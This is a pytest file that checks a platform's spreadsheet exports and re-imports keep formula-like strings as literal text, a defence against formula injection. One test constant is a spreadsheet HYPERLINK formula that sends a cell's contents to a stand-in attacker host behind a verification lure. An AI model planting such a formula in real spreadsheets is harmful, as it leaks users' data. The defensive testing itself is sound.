"""Every string the platform writes into a spreadsheet is text, never a formula: the public annual list
and the roster export, read back with openpyxl; an export imported again keeps the literal name."""

import io

from openpyxl import Workbook, load_workbook

from jianfu.documents.sheets import append_row
from jianfu.org.models import School
from jianfu.org.services import roster_import
from tests.registry.test_lifecycle import register

HYPERLINK = '=HYPERLINK("http://evil.example/steal?c="&A1,"点此核验备案号")'
SCHOOL_FORMULA = "=1+1&西秀区第一小学"


def cells_of(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_a_title_that_looks_like_a_formula_is_literal_text_in_the_public_annual_list(world, file_demand, client):
    demand = register(world, file_demand(title=HYPERLINK))
    cells = cells_of(client.get("/lists/2021/520402.xlsx").content)
    assert [cell for cell in cells if cell.data_type == "f"] == []
    (title,) = [cell for cell in cells if cell.value == HYPERLINK]
    assert title.data_type == "s" and title.quotePrefix
    assert demand.registration_number in [cell.value for cell in cells]


def test_a_school_name_beginning_with_equals_is_literal_text_in_the_roster_export(world, client_for):
    School.objects.filter(pk=world.xixiu_school.pk).update(name=SCHOOL_FORMULA)
    response = client_for(world.county_officer).get("/roster/schools/export.xlsx")
    cells = cells_of(response.content)
    assert [cell for cell in cells if cell.data_type == "f"] == []
    (name,) = [cell for cell in cells if cell.value == SCHOOL_FORMULA]
    assert name.data_type == "s"


def test_importing_that_export_again_keeps_the_literal_name(world, client_for):
    School.objects.filter(pk=world.xixiu_school.pk).update(name=SCHOOL_FORMULA)
    exported = client_for(world.county_officer).get("/roster/schools/export.xlsx").content
    School.objects.filter(pk=world.xixiu_school.pk).update(name="改过的名称")
    counts = roster_import(kind="schools", data=exported, acting_user=world.county_officer)
    assert counts["updated"] >= 1
    assert School.objects.get(pk=world.xixiu_school.pk).name == SCHOOL_FORMULA


def test_every_string_is_text_and_other_values_keep_their_type():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("样例")
    append_row(sheet, ["=SUM(1,2)", "+86 0851", "-3+4", "@A1", "普通文字", 42, 2.5, None, "控制\x07字符"])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = cells_of(buffer.getvalue())
    assert [(cell.value, cell.data_type) for cell in cells] == [
        ("=SUM(1,2)", "s"),
        ("+86 0851", "s"),
        ("-3+4", "s"),
        ("@A1", "s"),
        ("普通文字", "s"),
        (42, "n"),
        (2.5, "n"),
        (None, "n"),
        ("控制字符", "s"),
    ]
    assert [cell.quotePrefix for cell in cells[:5]] == [True, True, True, True, False]
